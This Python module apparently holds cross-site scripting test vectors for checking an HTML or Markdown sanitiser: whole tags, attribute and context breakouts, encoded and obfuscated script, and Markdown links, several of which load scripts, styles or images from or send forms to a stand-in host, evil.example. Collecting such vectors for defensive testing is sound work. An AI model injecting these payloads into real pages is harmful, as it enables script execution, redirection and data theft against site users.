"""Texts that would run, load or imitate something where a page took them for markup."""

from __future__ import annotations

_DEEDS = ("alert(1)", "fetch('//evil.example')")

_TAGS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\x00>{}</script>",
    "<script/src=data:,{}>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    '<IMG SRC="javascript:{}">',
    "<img src=`x`onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{}"><text>x',
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">click</a>',
    '<a href="jav&#x09;ascript:{}">click</a>',
    '<a href="data:text/html,<script>{}</script>">click</a>',
    '<form action="javascript:{}"><button>go</button></form>',
    "<form action=//evil.example><input name=q></form>",
    '<button formaction="javascript:{}">go</button>',
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example/{})}}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<base href=//evil.example/>",
    '<div style="background:url(javascript:{})">x</div>',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<dragoman-chat server=//evil.example></dragoman-chat>",
    "<p id=content>{}</p>",
)
"""Whole elements."""

_BREAKOUTS = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    "` onmouseover={} x=`",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</script><script>{}</script>",
    "-->\n<script>{}</script>",
    "</b></a></span></h1><script>{}</script>",
    '\\"><script>{}</script>',
    "&quot;><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\u202e<script>{}</script>",
    "＜script＞{}＜/script＞",
    "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
)
"""Ends of what stands around them."""

_MARKDOWN = (
    "[x](javascript:{})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](//evil.example/x.png)",
    '![x](x" onerror="{})',
    "[x](vbscript:{})",
    "<javascript:{}>",
    "[x]: javascript:{}",
    "```\n</code></pre><script>{}</script>\n```",
)
"""What a Markdown renderer might make of them."""

VECTORS = tuple(text.format(_DEEDS[place % 2]) for place, text in enumerate((*_TAGS, *_BREAKOUTS, *_MARKDOWN)))
